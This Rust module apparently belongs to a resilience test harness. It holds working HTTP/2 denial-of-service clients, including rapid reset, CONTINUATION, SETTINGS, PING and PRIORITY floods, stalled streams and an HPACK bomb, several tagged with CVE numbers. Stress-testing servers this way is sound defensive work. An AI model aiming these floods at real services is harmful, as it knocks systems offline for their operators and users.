//! Clients of HTTP/2 that flood, hold and bomb.

use std::sync::Arc;

use serde_json::json;
use tokio::io::AsyncWriteExt;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};

use super::frame::{
    ACK, END_HEADERS, END_STREAM, PREFACE, frame, kind, literal, post, post_fields, read, reset,
    setting, settings, window_update,
};
use super::ground::{Ground, crowd_again, drain};
use super::upstream_http2::bomb_fields;

/// Streams that servers allow at once.
const STREAMS: u32 = 256;
/// Frames of a flood that are written at once.
const TOGETHER: usize = 64;
/// The largest id of a stream that a flood reaches on one connection.
const STREAM_MAX: u32 = 2_000_000;

/// A connection after the preface, with these settings.
async fn open(ground: &Ground, values: &[(u16, u32)]) -> Option<(OwnedReadHalf, OwnedWriteHalf)> {
    let mut stream = ground.connect_to(ground.http2, None).await.ok()?;
    let hello = [PREFACE, &settings(values), &frame(kind::SETTINGS, ACK, 0, &[])].concat();
    stream.write_all(&hello).await.ok()?;
    Some(stream.into_split())
}

fn call(number: u64) -> Vec<u8> {
    let to = format!("0x{number:040x}");
    let call = json!({
        "jsonrpc": "2.0", "id": 1, "method": "eth_getTransactionCount", "params": [to, "latest"],
    });
    call.to_string().into_bytes()
}

/// Answers pings and nothing else, so that nothing but its window tells what it is up to; ends
/// with the connection. The frame types that came last are told by the caller's remark.
async fn answer_pings(mut from: OwnedReadHalf, to: &mut OwnedWriteHalf) -> Option<u32> {
    while let Some(one) = read(&mut from).await {
        if one.kind == kind::PING && one.flags & ACK == 0 {
            to.write_all(&frame(kind::PING, ACK, 0, &one.payload)).await.ok()?;
        }
        if one.kind == kind::GOAWAY {
            let code: [u8; 4] = one.payload.get(4..8)?.try_into().ok()?;
            return Some(u32::from_be_bytes(code));
        }
    }
    None
}

/// Windows that stay shut: answers are there and can go nowhere.
pub(super) async fn shut_windows(ground: &Arc<Ground>) {
    let connections = ground.sized(70, 40);
    crowd_again(ground, connections, |ground, index| async move {
        let window = [(setting::INITIAL_WINDOW_SIZE, 0)];
        let Some((from, mut to)) = open(&ground, &window).await else { return };
        for stream in (1..).step_by(2).take(STREAMS as usize) {
            let body = call(ground.client_calls() * 1_000 + index as u64);
            if to.write_all(&post(stream, &ground.host(), &body)).await.is_err() {
                return;
            }
            ground.count_calls(1);
        }
        answer_pings(from, &mut to).await;
    })
    .await;
}

/// Requests whose bodies never come.
pub(super) async fn open_streams(ground: &Arc<Ground>) {
    crowd_again(ground, ground.sized(40, 10), |ground, _| async move {
        let Some((from, mut to)) = open(&ground, &[]).await else { return };
        for stream in (1..).step_by(2).take(STREAMS as usize) {
            let headers = frame(kind::HEADERS, END_HEADERS, stream, &post_fields(&ground.host()));
            if to.write_all(&headers).await.is_err() {
                return;
            }
        }
        answer_pings(from, &mut to).await;
    })
    .await;
}

/// Writes what `pieces` makes of each next stream, as quickly as it goes, and reads what comes.
async fn flood(
    ground: &Arc<Ground>,
    connections: usize,
    pieces: impl Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static,
) {
    crowd_again(ground, connections, move |ground, _| {
        let pieces = pieces.clone();
        async move {
            let Some((mut from, mut to)) = open(&ground, &[]).await else { return };
            let reading = tokio::spawn(async move { drain(&mut from).await });
            let mut streams = (1..STREAM_MAX).step_by(2);
            while !ground.is_over() && !reading.is_finished() {
                let bytes: Vec<u8> = streams.by_ref().take(TOGETHER).flat_map(&pieces).collect();
                if bytes.is_empty() || to.write_all(&bytes).await.is_err() {
                    break;
                }
            }
            reading.abort();
        }
    })
    .await;
}

/// Connections that flood at once.
fn flooders(ground: &Ground) -> usize {
    ground.sized(8, 2)
}

/// Whole calls that are reset at once (CVE-2023-44487).
pub(super) async fn rapid_reset(ground: &Arc<Ground>) {
    let host = ground.host();
    flood(ground, flooders(ground), move |stream| {
        [post(stream, &host, &call(u64::from(stream))), reset(stream, 8)].concat()
    })
    .await;
}

/// Streams that the server itself has to reset (CVE-2025-8671): their window grows by nothing.
pub(super) async fn made_reset(ground: &Arc<Ground>) {
    let host = ground.host();
    flood(ground, flooders(ground), move |stream| {
        [post(stream, &host, &call(u64::from(stream))), window_update(stream, 0)].concat()
    })
    .await;
}

/// A field block that does not end (CVE-2024-27316).
pub(super) async fn continuation(ground: &Arc<Ground>) {
    let host = ground.host();
    flood(ground, flooders(ground), move |stream| match stream {
        1 => frame(kind::HEADERS, 0, 1, &post_fields(&host)),
        _ => frame(kind::CONTINUATION, 0, 1, &literal("x-endless", &"a".repeat(100))),
    })
    .await;
}

/// SETTINGS, each of which wants an answer (CVE-2019-9515).
pub(super) async fn settings_flood(ground: &Arc<Ground>) {
    flood(ground, flooders(ground), |stream| {
        settings(&[(setting::HEADER_TABLE_SIZE, if stream % 4 == 1 { 0 } else { 4096 })])
    })
    .await;
}

/// PING, each of which wants an answer (CVE-2019-9512).
pub(super) async fn ping_flood(ground: &Arc<Ground>) {
    flood(ground, flooders(ground), |_| frame(kind::PING, 0, 0, &[7; 8])).await;
}

/// Priorities of streams that are not there (CVE-2019-9513).
pub(super) async fn priority_flood(ground: &Arc<Ground>) {
    flood(ground, flooders(ground), |stream| frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 200]))
        .await;
}

/// Updates of windows, a byte each.
pub(super) async fn window_updates(ground: &Arc<Ground>) {
    flood(ground, flooders(ground), |_| window_update(0, 1)).await;
}

/// Empty DATA without end (CVE-2019-9518).
pub(super) async fn empty_data(ground: &Arc<Ground>) {
    let host = ground.host();
    flood(ground, flooders(ground), move |stream| match stream {
        1 => frame(kind::HEADERS, END_HEADERS, 1, &post_fields(&host)),
        _ => frame(kind::DATA, 0, 1, &[]),
    })
    .await;
}

/// Sixteen kilobytes that stand for 48 MB of fields (CVE-2016-6581).
pub(super) async fn hpack_bomb(ground: &Arc<Ground>) {
    let host = ground.host();
    flood(ground, flooders(ground), move |stream| {
        // No more fits a frame, and the first block says all.
        let block = match stream {
            1 => bomb_fields(),
            _ => [post_fields(&host), vec![0x80 | 62; 12_000]].concat(),
        };
        frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block)
    })
    .await;
}
